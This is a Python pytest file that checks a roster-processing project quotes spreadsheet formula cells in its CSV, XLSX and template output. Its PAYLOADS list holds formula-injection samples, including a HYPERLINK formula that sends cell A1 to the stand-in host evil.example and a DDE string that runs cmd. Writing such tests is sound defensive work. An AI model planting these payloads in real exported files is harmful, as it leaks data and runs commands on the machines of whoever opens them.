"""No file the project writes holds a cell a spreadsheet would run (CSV/formula injection)."""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from core import output, template
from core.cells import is_live, neutralise, safe_text
from core.engine import evaluate_file
from core.reference import Column
from tests.test_validate import AS_OF, person, roster

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
            "\t=1+1", "=1+1"]      # a carriage return inside a CSV cell is the reader's matter
EXTRA = ("备注", "金额备注")


@pytest.fixture(scope="module")
def hostile():
    rows = []
    for i, p in enumerate(PAYLOADS, start=1):
        rows.append(person(i, name=p, employer=p, organizer=p, **{"备注": p, "金额备注": "-5"}))
    rows.append(person(len(PAYLOADS) + 1, id_number="=1+1", **{"备注": "普通文字"}))
    return evaluate_file(roster(rows, extra=EXTRA), "r.csv", as_of=AS_OF)


def _no_live_text(values) -> list:
    return [v for v in values if isinstance(v, str) and is_live(v)]


def test_safe_text_quotes_live_cells_only():
    assert safe_text("=1+1") == "'=1+1" and safe_text("\t=x") == "'\t=x" and safe_text("@A") == "'@A"
    assert safe_text("\r=x") == "'\r=x" and safe_text("-2+3") == "'-2+3" and safe_text("+86 138") == "'+86 138"
    for plain in ("-5", "+86", "-0.5", "张三", "", " =1", 5, -5, None):
        assert safe_text(plain) == plain


def test_csv_has_no_live_cell_and_numbers_stay(hostile):
    rows = list(csv.reader(io.StringIO(output.to_csv_bytes(hostile).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    cells = [c for row in body for c in row]
    assert _no_live_text(cells) == []
    name = header.index("姓名")
    # names are written back as sent (core.output.AS_SENT), the leading tab of "\t=1+1" too
    assert [r[name] for r in body[:len(PAYLOADS)]] == ["'" + p for p in PAYLOADS]
    assert body[-1][header.index("身份证号")] == "'=1+1"
    assert {r[header.index("金额备注")] for r in body[:len(PAYLOADS)]} == {"-5"}   # a plain number stays
    assert all(r[header.index("行号")].isdigit() for r in body)


def test_xlsx_has_no_formula_and_no_live_text(hostile):
    wb = openpyxl.load_workbook(io.BytesIO(output.to_xlsx_bytes(hostile)))
    for ws in wb.worksheets:
        cells = [c for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert _no_live_text(c.value for c in cells) == []
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    names = [ws.cell(row=i, column=header.index("姓名") + 1).value for i in range(2, 2 + len(PAYLOADS))]
    assert names == ["'" + p for p in PAYLOADS]
    amount = header.index("就业稳岗补贴·金额（元）") + 1
    assert all(isinstance(ws.cell(row=i, column=amount).value, int) for i in range(2, ws.max_row + 1))


def test_neutralise_keeps_numbers_and_categories():
    frame = pd.DataFrame({"n": [-5, 3], "s": pd.Series(["=a", "b"], dtype="string[pyarrow]"),
                          "c": pd.Categorical(["@x", "y"]), "both": pd.Categorical(["=a", "'=a"])})
    out = neutralise(frame)
    assert out["n"].tolist() == [-5, 3] and out["s"].tolist() == ["'=a", "b"]
    assert out["c"].tolist() == ["'@x", "y"] and out["both"].tolist() == ["'=a", "'=a"]
    assert frame["s"].tolist() == ["=a", "b"]          # the caller's frame is not changed


def test_template_never_writes_a_live_cell(monkeypatch):
    cols = (Column(field="name", header="=HYPERLINK(\"x\")", required=True, kind="text", aliases=()),)
    monkeypatch.setattr(template, "columns", lambda: cols)
    monkeypatch.setattr(template, "example_value", lambda col, lang="zh": "=1+1")
    monkeypatch.setattr(template, "accepted_text", lambda col, lang="zh": "-1+1")
    assert template.template_bytes("csv").decode("utf-8-sig").startswith("'=HYPERLINK")
    wb = openpyxl.load_workbook(io.BytesIO(template.template_bytes("xlsx")))
    for ws in wb.worksheets:
        cells = [c for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert _no_live_text(c.value for c in cells) == []


def test_safe_array_quotes_as_neutralise_does():
    """The batched engine makes its Arrow columns safe with ``safe_array``: the same cells as
    ``neutralise`` on a frame, a dictionary checked by its words and decoded when one is live."""
    import pyarrow as pa

    from core.cells import safe_array

    texts = ["=1+1", "-5", "张三", None, "@SUM(A1)", "+86", "\tx", ""]
    plain = pa.array(texts, pa.string())
    framed = neutralise(pd.DataFrame({"t": pd.Series(texts, dtype="string")}))["t"]
    expected = [None if pd.isna(x) else x for x in framed.tolist()]
    assert safe_array(plain).to_pylist() == expected
    assert expected[0] == "'=1+1" and expected[1] == "-5" and expected[4] == "'@SUM(A1)"
    quiet = pa.array(["张三", "-5", None], pa.string())
    assert safe_array(quiet) is quiet                        # nothing live: the array itself
    words = pa.DictionaryArray.from_arrays(pa.array([0, 1, None, 0], pa.int8()), pa.array(["可兑现", "=x"]))
    assert safe_array(words).to_pylist() == ["可兑现", "'=x", None, "可兑现"]
    calm = pa.DictionaryArray.from_arrays(pa.array([1, 0], pa.int8()), pa.array(["是", "否"]))
    assert safe_array(calm) is calm
